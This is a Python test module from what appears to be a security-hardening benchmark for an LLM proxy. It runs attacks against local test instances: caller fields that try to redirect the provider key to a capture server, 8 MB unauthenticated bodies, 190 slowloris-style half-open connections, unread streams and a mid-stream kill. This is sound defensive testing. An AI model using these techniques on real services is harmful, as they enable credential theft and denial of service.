"""Attacks on the proxy's front door: items 1, 5 and 9 of issue 11, and the stream items.

Each function starts what it attacks, runs for seconds, and returns
(item, attack, figure) rows for benchmarks/hardening.py to print.
"""

from __future__ import annotations

import contextlib
import json
import random
import socket
import threading
import time
from pathlib import Path
from typing import Any

import httpx
from hardening_kit import (
    Capture,
    Proc,
    base_config,
    engine_for,
    only_known,
    peak_rss_mb,
    proxy,
    rows,
    upstream,
)

Row = tuple[str, str, str]
SECRET = "sk-hardening-provider-key"


def credentials(folder: Path) -> list[Row]:
    """Item 1: caller-chosen destination and credential fields, one by one, JSON and
    stream, through the litellm backend (the one that forwarded them)."""
    capture = Capture()
    attacks: dict[str, Any] = {
        "base_url": capture.url + "/v1", "api_base": capture.url + "/v1",
        "api_key": "sk-attacker", "custom_llm_provider": "openai",
        "extra_headers": {"x-exfiltrate": "1"}, "mock_response": "ATTACKER",
    }
    answered_by_attacker = reached = with_key = sent = 0
    with upstream() as up:
        config = base_config(up, backends={"llm": {
            "kind": "litellm", "base_url": up.v1, "api_key": SECRET, "timeout": 30,
            "max_retries": 0}}, models={"gpt": {"backend": "llm", "model": "openai/echo-model"}},
            default_backend=None)
        with proxy(config, folder) as server:
            for name, value in attacks.items():
                for stream in (False, True):
                    body = {**_chat("what is 2+2?"), "model": "gpt", name: value,
                            "stream": stream}
                    before = len(capture.seen)
                    with contextlib.suppress(httpx.HTTPError):
                        response = httpx.post(server.v1 + "/chat/completions", json=body,
                                              timeout=60)
                        answered_by_attacker += "ATTACKER" in response.text
                    sent += 1
                    new = capture.seen[before:]
                    reached += bool(new)
                    with_key += any(SECRET in h.get("authorization", "") for h in new)
    capture.close()
    return [("1", "caller base_url/api_base/api_key/extra_headers/custom_llm_provider/"
             "mock_response, JSON+stream",
             f"{reached}/{sent} reached the capture server, {with_key} carried the provider "
             f"key, {answered_by_attacker} answered by the attacker")]


def _chat(content: str, **body: Any) -> dict[str, Any]:
    return {"model": "echo", "messages": [{"role": "user", "content": content}], **body}


def unauthenticated_8mb(folder: Path) -> list[Row]:
    """Item 5: three unauthenticated 8 MB bodies (one long word), /healthz meanwhile."""
    with upstream() as up:
        url = f"sqlite:///{folder / 'ledger.db'}"
        config = base_config(up, ledger={"url": url})
        from hardening_kit import cli

        cli(["keys", "create", "--team", "default", "--db", url], folder)  # auth is on
        with proxy(config, folder) as server:
            body = ('{"model": "echo", "messages": [{"role": "user", "content": "'
                    + "a" * (8 * 1024 * 1024 - 400) + '"}]}').encode()
            latencies: list[float] = []
            stop = threading.Event()

            def poll() -> None:
                while not stop.is_set():
                    began = time.perf_counter()
                    httpx.get(server.url + "/healthz", timeout=120)
                    latencies.append(time.perf_counter() - began)
                    time.sleep(0.02)

            took: list[float] = []
            statuses: list[int] = []

            def attack() -> None:
                began = time.perf_counter()
                response = httpx.post(server.v1 + "/chat/completions", content=body,
                                      headers={"content-type": "application/json"},
                                      timeout=120)
                took.append(time.perf_counter() - began)
                statuses.append(response.status_code)

            watcher = threading.Thread(target=poll)
            watcher.start()
            threads = [threading.Thread(target=attack) for _ in range(3)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            stop.set()
            watcher.join()
    return [("5", "3 unauthenticated 8 MB bodies (one long word)",
             f"statuses {sorted(statuses)}, refused in {max(took):.2f} s (slowest), "
             f"/healthz max {max(latencies) * 1000:.0f} ms meanwhile")]


def _prose(chars: int, seed: int) -> str:
    pick = random.Random(seed)
    words = ["ledger", "budget", "proxy", "request", "token", "stream", "server", "client",
             "upstream", "window", "reservation", "replica", "cache", "prompt", "answer"]
    out, size = [], 0
    while size < chars:
        sentence = " ".join(pick.choice(words) for _ in range(pick.randint(8, 18)))
        out.append(sentence.capitalize() + f" {pick.randint(0, 9999)}.")
        size += len(out[-1]) + 1
    return " ".join(out) + "\n\nWhich replica holds the reservation?"


def slow_clients(folder: Path) -> list[Row]:
    """Item 9: 190 clients that send half a request line and then nothing."""
    with upstream() as up:
        server_limits = only_known("server", {"header_timeout": 2, "body_timeout": 2,
                                              "write_timeout": 2})
        config = base_config(up, server=server_limits)
        with proxy(config, folder) as server:
            socks = []
            for _ in range(190):
                sock = socket.create_connection(("127.0.0.1", server.port))
                sock.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n")
                socks.append(sock)
            time.sleep(12)
            held = 0
            for sock in socks:
                sock.settimeout(0.05)
                try:
                    sock.recv(4096)  # a 408, or the end: the server let it go
                except TimeoutError:
                    held += 1  # nothing came and the server has not closed it
                except OSError:
                    pass
                sock.close()
            alive = httpx.get(server.url + "/healthz", timeout=10).status_code
    return [("9", "190 slow clients (headers never finished), after 12 s",
             f"{held}/190 connections still held; /healthz {alive}")]


def unread_stream(folder: Path) -> list[Row]:
    """Item 9: a budgeted stream whose client never reads."""
    with upstream() as up:
        url = f"sqlite:///{folder / 'ledger.db'}"
        config = base_config(up, ledger={"url": url},
                             server=only_known("server", {"write_timeout": 2}),
                             teams={"t": {"tokens": 10_000_000, "window": "1d"}})
        with proxy(config, folder) as server:
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.connect(("127.0.0.1", server.port))
            sock.sendall(_raw(_chat("flood me", model="fault:firehose", stream=True,
                                    tokenomy={"team": "t"})))
            time.sleep(15)
            engine = engine_for(url)
            held = rows(engine, "select count(*) from tk_reservations")[0][0]
            gone = httpx.get(up.url + "/_stats").json()["hung_up"]
            engine.dispose()
            sock.close()
    return [("9", "a budgeted stream nobody reads, after 15 s",
             f"reservation still held: {'yes' if held else 'no'}; upstream connection "
             f"closed: {'yes' if gone else 'no'}")]


def _raw(body: dict[str, Any]) -> bytes:
    data = json.dumps(body).encode()
    return (b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json"
            b"\r\ncontent-length: " + str(len(data)).encode() + b"\r\n\r\n" + data)


def abandoned_json(folder: Path) -> list[Row]:
    """Item 9: a compressed JSON request abandoned at 2 s: does it still call upstream?"""
    with upstream() as up:
        url = f"sqlite:///{folder / 'ledger.db'}"
        config = base_config(up, ledger={"url": url}, compression={"enabled": True},
                             server={"max_body_bytes": 4 * 1024 * 1024})
        with proxy(config, folder) as server:
            warm = {"model": "echo", "messages": [{"role": "user", "content": _prose(3000, 1)}]}
            httpx.post(server.v1 + "/chat/completions", json=warm, timeout=300)
            httpx.post(up.url + "/_reset")
            began = time.monotonic()
            with contextlib.suppress(httpx.TimeoutException):
                httpx.post(server.v1 + "/chat/completions", timeout=2,
                           json=_chat(_prose(100_000, 2)))
            called_at = None
            while time.monotonic() - began < 45:
                if httpx.get(up.url + "/_stats").json()["count"]:
                    called_at = time.monotonic() - began
                    break
                time.sleep(0.2)
            engine = engine_for(url)
            outcome = rows(engine, "select outcome from tk_requests order by ts desc limit 1")
            engine.dispose()
    upstream_call = f"called upstream at {called_at:.0f} s" if called_at else \
        "never called upstream (45 s)"
    return [("9", "compressed JSON request (100 kB) abandoned at 2 s",
             f"{upstream_call}; ledger outcome {outcome[0][0] if outcome else 'none'}")]


def compress_1mb(folder: Path) -> list[Row]:
    """Item 9: one 1 MB message with compression on: time and the proxy's peak memory."""
    with upstream() as up:
        config = base_config(up, compression={"enabled": True},
                             server={"max_body_bytes": 4 * 1024 * 1024})
        with proxy(config, folder) as server:
            warm = {"model": "echo", "messages": [{"role": "user", "content": _prose(3000, 1)}]}
            httpx.post(server.v1 + "/chat/completions", json=warm, timeout=300)
            before = peak_rss_mb(server.process.pid)
            began = time.perf_counter()
            outcome = "no answer in 180 s"
            with contextlib.suppress(httpx.TimeoutException):
                response = httpx.post(server.v1 + "/chat/completions", timeout=180,
                                      json=_chat(_prose(1_000_000, 3)))
                outcome = (f"{response.status_code} in {time.perf_counter() - began:.1f} s, "
                           f"tokens {response.headers.get('x-tokenomy-prompt-tokens-original')}"
                           f" -> {response.headers.get('x-tokenomy-prompt-tokens-sent')}")
            peak = peak_rss_mb(server.process.pid)
    return [("9", "one 1 MB message, compression on",
             f"{outcome}; proxy peak RSS +{peak - before:.0f} MB (to {peak:.0f} MB)")]


def stream_usage(folder: Path) -> list[Row]:
    """Also: a client that asked for stream usage, from a backend that sends none."""
    with upstream() as up:
        url = f"sqlite:///{folder / 'ledger.db'}"
        config = base_config(up, ledger={"url": url})
        with proxy(config, folder) as server:
            body = _chat("count these words please", stream=True,
                         stream_options={"include_usage": True},
                         metadata={"test_fault": "nousage"})
            with httpx.stream("POST", server.v1 + "/chat/completions", json=body,
                              timeout=30) as response:
                chunks = [json.loads(line[6:]) for line in response.iter_lines()
                          if line.startswith("data: {")]
            usage = next((c["usage"] for c in chunks if c.get("usage")), None)
            time.sleep(0.5)
            engine = engine_for(url)
            try:
                row = rows(engine, "select completion_tokens, estimated from tk_requests")
            except Exception:  # an older schema: no `estimated` column
                row = [(*r, "n/a") for r in rows(engine, "select completion_tokens "
                                                          "from tk_requests")]
            engine.dispose()
    return [("also", "stream usage asked for, backend sends none",
             f"usage chunk: {'yes ' + json.dumps(usage) if usage else 'no'}; ledger row "
             f"(completion, estimated) {tuple(row[0]) if row else None}")]


def killed_mid_stream(folder: Path) -> list[Row]:
    """Also: a proxy killed mid-stream; a second one reconciles its reservation."""
    from hardening_kit import start_proxy

    with upstream() as up:
        url = f"sqlite:///{folder / 'ledger.db'}"
        ledger = {"url": url, "reconcile_interval": 1, "owner_ttl": 3,
                  **only_known("ledger", {"checkpoint_interval": 0.5})}
        config = base_config(up, ledger=ledger,
                             teams={"t": {"tokens": 1_000_000, "window": "1d"}})
        victim: Proc = start_proxy(config, folder)
        seen: list[str] = []

        def read() -> None:
            body = _chat("talk slowly", stream=True, max_tokens=1000,
                         metadata={"test_fault": "drip"}, tokenomy={"team": "t"})
            with contextlib.suppress(httpx.HTTPError), httpx.stream(
                    "POST", victim.v1 + "/chat/completions", json=body, timeout=30) as r:
                for line in r.iter_lines():
                    if line.startswith("data: {"):
                        seen.append(line)

        threading.Thread(target=read, daemon=True).start()
        deadline = time.monotonic() + 30
        while len(seen) < 100 and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.6)
        victim.stop(kill=True)
        with proxy(config, folder):
            engine = engine_for(url)
            end = time.monotonic() + 20
            while rows(engine, "select count(*) from tk_reservations")[0][0] and \
                    time.monotonic() < end:
                time.sleep(0.3)
            found = rows(engine, "select outcome, completion_tokens, total_tokens "
                                 "from tk_requests where team='t'")
            engine.dispose()
    return [("also", f"proxy SIGKILLed after {len(seen)} streamed chunks",
             f"row (outcome, completion, total) {tuple(found[0]) if found else None}")]


SERVER_ATTACKS = {
    "credentials": credentials,
    "auth8mb": unauthenticated_8mb,
    "slowclients": slow_clients,
    "unread": unread_stream,
    "abandoned": abandoned_json,
    "compress1mb": compress_1mb,
    "streamusage": stream_usage,
    "killedstream": killed_mid_stream,
}
